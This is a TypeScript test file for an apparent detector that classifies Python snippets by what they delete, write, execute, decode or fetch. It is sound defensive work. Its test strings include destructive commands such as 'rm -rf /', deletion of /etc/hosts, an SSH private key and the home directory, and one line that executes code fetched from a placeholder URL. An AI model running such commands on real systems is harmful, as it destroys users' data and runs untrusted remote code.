import { describe, expect, it } from 'vitest'
import { recognised } from './recognised.ts'

const cases: readonly (readonly [string, readonly string[]])[] = [
  // Files.
  ["import os; os.remove('/etc/' + 'hosts')", ['delete /etc/hosts']],
  ["import os; os.rmdir('/srv')", ['delete /srv']],
  ["import shutil as sh; sh.rmtree('/srv')", ['delete all of /srv']],
  ["from shutil import rmtree as gone; gone('/srv')", ['delete all of /srv']],
  ["import os\nfrom shutil import rmtree as r\nr('/a')", ['delete all of /a']],
  ["from shutil import (copy, move)\nmove('/a', '/b')", ['delete /a', 'write /b']],
  ["import shutil, os; shutil.rmtree(os.path.expanduser('~'))", ['delete all of /home/u']],
  ["import os; x = os.environ['HOME']; os.rename(x + '/a', '/b')", ['delete /home/u/a', 'write /b']],
  ["from pathlib import Path; (Path.home() / '.ssh' / 'id_rsa').unlink()", ['delete /home/u/.ssh/id_rsa']],
  ["from pathlib import Path; p = Path('/a/b'); p.rename(p.with_name('c'))", ['delete /a/b', 'write /a/c']],
  ["from pathlib import Path; Path('/a').write_text('x')", ['write /a']],
  ["import os; getattr(os, 'chmod')('/a', 0)", ['write entry /a']],
  ["__import__('os').remove('/a')", ['delete /a']],
  ['import sys, os; os.remove(sys.argv[1])', ['delete /first']],
  ["open('/a', 'w').write('x')", ['write /a']],
  ["print(open('/a', 'r').read(), 'w')", ['read /a']],
  ["with open('/a', mode='r+') as f: pass", ['write /a', 'read /a']],
  ["import os; os.link('/a', '/b')", ['write entry /a', 'write /b']],
  ["import os; os.open('/a', os.O_WRONLY | os.O_CREAT)", ['write /a']],
  // Loops, functions, choices.
  ["import os\nfor p in ['/a', '/b']:\n    os.remove(p)", ['delete /a', 'delete /b']],
  ["import os; [os.remove(p) for p in ['/a', '/b']]", ['delete /a', 'delete /b']],
  ["import os\ndef f(p): os.remove(p)\nf('/a')\nf('/b')", ['delete /a', 'delete /b']],
  ["import os; a, b = '/a', '/b'; os.remove(b)", ['delete /b']],
  ["import os; os.remove('/a' if x else '/b')", ['delete /a', 'delete /b']],
  // What is started.
  ["import os; os.system('rm -rf %s' % '/')", ['script rm -rf /']],
  ["import os; p = '/'; os.system(f'rm -rf {p!r:>3}')", ['script rm -rf /']],
  ["import subprocess; subprocess.run(['rm', '-rf', '/'])", ['words rm -rf /']],
  ["import subprocess; subprocess.run('rm -rf /')", ['words rm -rf /']],
  ["import subprocess; subprocess.run('rm -rf /', shell=True)", ['script rm -rf /']],
  ["import os; os.execvp('rm', ['rm', '-rf', '/'])", ['words rm -rf /']],
  // What is decoded, evaluated, fetched.
  ["import base64, os; os.system(base64.b64decode('bHM=').decode())", ['script ls', 'does decodes']],
  ["exec(__import__('base64').b64decode('cGFzcw=='))", ['python pass', 'does decodes', 'does evaluates']],
  [
    "import urllib.request as u; exec(u.urlopen('http://e.test').read())",
    ['python ?', 'does network', 'does evaluates'],
  ],
]

const uncertain: readonly (readonly [string, readonly string[]])[] = [
  ['import os; os.remove(unknown)', ['delete ?']],
  ["import os; [os.remove(os.path.join('/a', f)) for f in os.listdir('/a')]", ['delete /a/?']],
  [
    "import os\nfor d, _, fs in os.walk('/a'):\n    for f in fs: os.remove(os.path.join(d, f))",
    ['delete /a/?', 'delete /a/?/?'],
  ],
  ["from pathlib import Path\nfor p in Path('/a').rglob('*.c'): p.unlink()", ['delete /a/?']],
  ["import os; os.system(f'rm -rf {chr(47)}')", ['script rm -rf ?', 'does evaluates']],
  ['import base64, os; os.system(base64.b64decode(x))', ['script ?', 'does decodes', 'does evaluates']],
  ['import subprocess; subprocess.run(command)', ['words ?']],
  ["import subprocess; subprocess.run(['rm', *paths])", ['words rm ?']],
]

const harmless: readonly string[] = [
  'print(\'os.remove("/etc/hosts")\')',
  "# import os; os.remove('/etc/hosts')",
  'def f():\n    """os.system(\'rm -rf /\')"""\n    return 1',
  'x = r\'shutil.rmtree("/")\'',
  "import os, types; os = types.SimpleNamespace(remove=print); os.remove('/etc/hosts')",
  "import json; print(json.dumps({'remove': '/etc/hosts'}))",
  "'a/b'.replace('/', '-')",
  'remove = 1; unlink = 2; print(remove / unlink)',
  "import pandas as pd; df = pd.read_csv('a.csv'); df.rename(columns={'a': 'b'})",
]

describe('python', () => {
  it.each(cases)('recognises %s', (text, found) => {
    expect(recognised('python', text)).toEqual(found)
  })

  it.each(uncertain)('reports unknown parts of %s', (text, found) => {
    expect(recognised('python', text)).toEqual(found)
  })

  it.each(harmless)('finds nothing in %s', (text) => {
    expect(recognised('python', text)).toEqual([])
  })
})
